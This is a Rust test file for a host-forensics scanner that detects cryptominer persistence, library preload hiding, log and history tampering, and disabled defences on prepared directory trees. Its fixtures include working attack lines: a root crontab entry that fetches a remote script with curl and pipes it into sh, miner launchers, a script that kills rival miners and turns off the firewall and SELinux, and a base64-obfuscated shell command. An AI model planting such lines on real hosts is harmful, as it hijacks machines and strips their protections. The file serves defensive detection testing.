//! Prepared root trees under a tempdir: persistence, ld.so.preload, log and history tampering,
//! disabled defences, each found; benign look-alikes silent.

use minetrace_core::{Confidence, Finding, Timestamp};
use minetrace_host::attribution::{encode_utmp_record, UtmpRecord, USER_PROCESS};
use minetrace_host::files::{check_files, FileCheckConfig, FileReport};
use minetrace_host::BuiltinPools;
use std::path::Path;

fn put(root: &Path, rel: &str, content: &[u8]) {
    let p = root.join(rel);
    std::fs::create_dir_all(p.parent().unwrap()).unwrap();
    std::fs::write(p, content).unwrap();
}

fn check(root: &Path) -> FileReport {
    check_files(
        &FileCheckConfig {
            root: root.to_path_buf(),
            log_gap_secs: 12 * 3600,
            now: Timestamp::now(),
        },
        &BuiltinPools,
    )
}

fn about<'a>(r: &'a FileReport, detector: &str, file: &str) -> Vec<&'a Finding> {
    r.findings
        .iter()
        .filter(|f| f.detector == detector && f.evidence.files.iter().any(|x| x == file))
        .collect()
}

/// A healthy system's files: none of these may raise a finding.
fn benign_tree(root: &Path) {
    put(
        root,
        "etc/passwd",
        b"root:x:0:0:root:/root:/bin/bash\nalice:x:1000:1000::/home/alice:/bin/bash\n",
    );
    put(root, "etc/crontab", b"SHELL=/bin/sh\n17 * * * * root cd / && run-parts --report /etc/cron.hourly\n0 3 * * 0 root /usr/sbin/zpool scrub tank\n");
    put(root, "etc/cron.d/zfs", b"# uses /etc/zfs/zpool.cache\n24 0 8-14 * 0 root [ -x /usr/lib/zfs-linux/scrub ] && /usr/lib/zfs-linux/scrub\n");
    put(
        root,
        "etc/cron.daily/build",
        b"#!/bin/sh\ncd /srv/src && make -o pool all && gcc -O2 -c pool.c -o pool.o\n",
    );
    put(root, "etc/systemd/system/node_exporter.service", b"[Unit]\nDescription=Node Exporter\n[Service]\nExecStart=/usr/local/bin/node_exporter --collector.systemd\n");
    put(
        root,
        "lib/systemd/system/cron.service",
        b"[Service]\nExecStart=/usr/sbin/cron -f $EXTRA_OPTS\n",
    );
    put(
        root,
        "etc/profile",
        b"if [ -d /etc/profile.d ]; then\n  for i in /etc/profile.d/*.sh; do . $i; done\nfi\n",
    );
    put(
        root,
        "home/alice/.bashrc",
        b"export PATH=$HOME/bin:$PATH\nalias ll='ls -l'\n",
    );
    put(root, "home/alice/.bash_history", b"ls\ncd /srv\nmake\n");
    put(root, "etc/ld.so.preload", b"");
    put(
        root,
        "etc/selinux/config",
        b"SELINUX=enforcing\nSELINUXTYPE=targeted\n",
    );
    put(
        root,
        "var/log/auth.log",
        b"Jan  2 03:04:05 h sshd[1]: Accepted publickey for alice from 198.51.100.4 port 5000 ssh2\nJan  2 04:17:01 h CRON[2]: pam_unix(cron:session): session opened for user root\nJan  2 05:17:01 h CRON[3]: pam_unix(cron:session): session opened\n",
    );
    put(
        root,
        "var/log/syslog",
        b"Jan  2 03:00:00 h kernel: x\nJan  2 04:00:00 h kernel: y\n",
    );
    let rec = UtmpRecord {
        kind: USER_PROCESS,
        pid: 10,
        line: "pts/0".into(),
        user: "alice".into(),
        host: "198.51.100.4".into(),
        session: 1,
        time_sec: 1_700_000_000,
        addr: Some("198.51.100.4".parse().unwrap()),
    };
    put(root, "var/log/wtmp", &encode_utmp_record(&rec));
    put(root, "home/alice/.ssh/authorized_keys", b"ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIBk1+k2WpOw0pg3WKZ2y0nYwLz1nKzW0FJFxkZUn9V9n alice@laptop\n");
}

#[test]
fn benign_tree_is_silent() {
    let d = tempfile::tempdir().unwrap();
    benign_tree(d.path());
    let r = check(d.path());
    let loud: Vec<&Finding> = r
        .findings
        .iter()
        .filter(|f| f.confidence >= Confidence::Medium)
        .collect();
    assert!(loud.is_empty(), "{loud:#?}");
    assert!(!r.persistence_with_miner && !r.hiding && !r.defences_disabled && !r.logs_tampered);
    assert_eq!(r.authorized_keys.len(), 1);
    assert!(r.authorized_keys[0]["fingerprint"]
        .as_str()
        .unwrap()
        .starts_with("SHA256:"));
}

#[test]
fn cron_and_systemd_persistence_are_found_with_the_miner_they_start() {
    let d = tempfile::tempdir().unwrap();
    benign_tree(d.path());
    put(
        d.path(),
        "var/spool/cron/crontabs/root",
        b"*/10 * * * * curl -fsSL http://203.0.113.9/ldm | sh\n@reboot /tmp/.ICE-unix/kdevtmpfsi\n",
    );
    put(
        d.path(),
        "etc/systemd/system/moneroocean_miner.service",
        b"[Unit]\nDescription=Monero miner service\n[Service]\nExecStart=/root/moneroocean/xmrig --config=/root/moneroocean/config.json\nNice=10\n",
    );
    put(d.path(), "etc/rc.local", b"#!/bin/sh\nnohup /dev/shm/.x/systemd-worker -o stratum+tcp://pool.example.org:3333 >/dev/null 2>&1 &\nexit 0\n");
    put(
        d.path(),
        "etc/init.d/netsvc",
        b"#!/bin/sh\npkill -f xmrig\nkillall -9 kinsing\nufw disable\nsetenforce 0\n",
    );
    put(
        d.path(),
        "home/alice/.profile",
        b"echo ZWNobyBzdHJhdHVtK3RjcDovL3Bvb2wuZXhhbXBsZS5vcmc6MzMzMw== | base64 -d | sh\n",
    );
    let r = check(d.path());
    let cron = about(&r, "host-persistence", "/var/spool/cron/crontabs/root");
    assert_eq!(cron.len(), 1);
    assert_eq!(cron[0].confidence, Confidence::High);
    assert!(
        cron[0].reasons.iter().any(|x| x.contains("kdevtmpfsi")),
        "{:?}",
        cron[0].reasons
    );
    assert!(cron[0]
        .reasons
        .iter()
        .any(|x| x.contains("pipes it into a shell")));
    let unit = about(
        &r,
        "host-persistence",
        "/etc/systemd/system/moneroocean_miner.service",
    );
    assert_eq!(unit[0].confidence, Confidence::High);
    assert!(unit[0].evidence.extra["starts"]
        .as_array()
        .unwrap()
        .iter()
        .any(|s| s.as_str().unwrap().contains("xmrig")));
    let rc = about(&r, "host-persistence", "/etc/rc.local");
    assert_eq!(rc[0].confidence, Confidence::High);
    let initd = about(&r, "host-persistence", "/etc/init.d/netsvc");
    assert!(initd[0]
        .reasons
        .iter()
        .any(|x| x.contains("kills competing miners")));
    assert!(initd[0]
        .reasons
        .iter()
        .any(|x| x.contains("firewall disabled")));
    let profile = about(&r, "host-persistence", "/home/alice/.profile");
    assert!(
        profile[0].reasons.iter().any(|x| x.contains("base64")),
        "{:?}",
        profile[0].reasons
    );
    assert!(r.persistence_with_miner && r.competitor_kill && r.defences_disabled);
}

#[test]
fn ld_so_preload_is_found() {
    let d = tempfile::tempdir().unwrap();
    benign_tree(d.path());
    put(
        d.path(),
        "etc/ld.so.preload",
        b"/usr/local/lib/libprocesshider.so\n",
    );
    let r = check(d.path());
    let f = about(&r, "host-ld-preload", "/etc/ld.so.preload");
    assert_eq!(f[0].confidence, Confidence::High);
    assert!(f[0].reasons.iter().any(|x| x.contains("does not exist")));
    assert!(r.hiding);
}

#[test]
fn truncated_deleted_and_gapped_logs_are_found() {
    let d = tempfile::tempdir().unwrap();
    benign_tree(d.path());
    // Gap of four days, then a backward step.
    put(
        d.path(),
        "var/log/auth.log",
        b"Jan  2 03:04:05 h sshd[1]: Accepted publickey for alice from 198.51.100.4 port 5000 ssh2\nJan  6 03:04:05 h sshd[1]: session closed\nJan  5 01:00:00 h sshd[1]: spliced\n",
    );
    // wtmp cut mid-record with a wiped record.
    let mut wtmp = vec![0u8; 384];
    wtmp.extend_from_slice(&[7, 0, 0]);
    put(d.path(), "var/log/wtmp", &wtmp);
    put(d.path(), "var/log/syslog", b"");
    let r = check(d.path());
    let auth = about(&r, "host-log-tampering", "/var/log/auth.log");
    assert!(
        auth[0].reasons.iter().any(|x| x.contains("gap")),
        "{:?}",
        auth[0].reasons
    );
    assert!(auth[0].reasons.iter().any(|x| x.contains("backward")));
    let wt = about(&r, "host-log-tampering", "/var/log/wtmp");
    assert!(wt[0].reasons.iter().any(|x| x.contains("cut mid-record")));
    assert!(wt[0].reasons.iter().any(|x| x.contains("zeroed")));
    assert!(
        !about(&r, "host-log-tampering", "/var/log/syslog").is_empty(),
        "empty syslog without rotation"
    );

    // Deleted: auth.log gone while syslog still writes.
    let d2 = tempfile::tempdir().unwrap();
    benign_tree(d2.path());
    std::fs::remove_file(d2.path().join("var/log/auth.log")).unwrap();
    let r2 = check(d2.path());
    assert_eq!(
        about(&r2, "host-log-tampering", "/var/log/auth.log").len(),
        1
    );

    // An empty log right after rotation is normal.
    let d3 = tempfile::tempdir().unwrap();
    benign_tree(d3.path());
    put(d3.path(), "var/log/syslog", b"");
    put(d3.path(), "var/log/syslog.1", b"Jan  1 00:00:00 h x\n");
    assert!(about(&check(d3.path()), "host-log-tampering", "/var/log/syslog").is_empty());
}

#[test]
fn cleared_and_linked_history_is_found() {
    let d = tempfile::tempdir().unwrap();
    benign_tree(d.path());
    put(d.path(), "home/alice/.bash_history", b"");
    std::fs::create_dir_all(d.path().join("root")).unwrap();
    std::os::unix::fs::symlink("/dev/null", d.path().join("root/.bash_history")).unwrap();
    let r = check(d.path());
    assert!(
        about(&r, "host-history-tampering", "/home/alice/.bash_history")[0].reasons[0]
            .contains("empty")
    );
    assert!(
        about(&r, "host-history-tampering", "/root/.bash_history")[0].reasons[0]
            .contains("/dev/null")
    );
}

#[test]
fn selinux_permissive_and_masked_firewall_are_found() {
    let d = tempfile::tempdir().unwrap();
    benign_tree(d.path());
    put(d.path(), "etc/selinux/config", b"SELINUX=permissive\n");
    std::fs::create_dir_all(d.path().join("etc/systemd/system")).unwrap();
    std::os::unix::fs::symlink(
        "/dev/null",
        d.path().join("etc/systemd/system/firewalld.service"),
    )
    .unwrap();
    let r = check(d.path());
    assert_eq!(
        about(&r, "host-defences", "/etc/selinux/config")[0].confidence,
        Confidence::Medium
    );
    assert_eq!(
        about(&r, "host-defences", "/etc/systemd/system/firewalld.service").len(),
        1
    );
    assert!(r.defences_disabled);
}

#[test]
fn garbage_and_broken_links_do_not_crash() {
    let d = tempfile::tempdir().unwrap();
    put(
        d.path(),
        "etc/crontab",
        &[0u8, 159, 146, 150, 0xff, 0, 1, 2, 3],
    );
    put(d.path(), "var/log/auth.log", &vec![0xffu8; 10_000]);
    put(d.path(), "var/log/wtmp", &[1, 2, 3]);
    std::fs::create_dir_all(d.path().join("etc/cron.d")).unwrap();
    std::os::unix::fs::symlink("/nonexistent/target", d.path().join("etc/cron.d/broken")).unwrap();
    std::os::unix::fs::symlink("/nonexistent", d.path().join("etc/ld.so.preload")).unwrap();
    let r = check(d.path());
    assert!(
        r.findings
            .iter()
            .all(|f| f.detector == "host-log-tampering"),
        "{:#?}",
        r.findings
    );
}
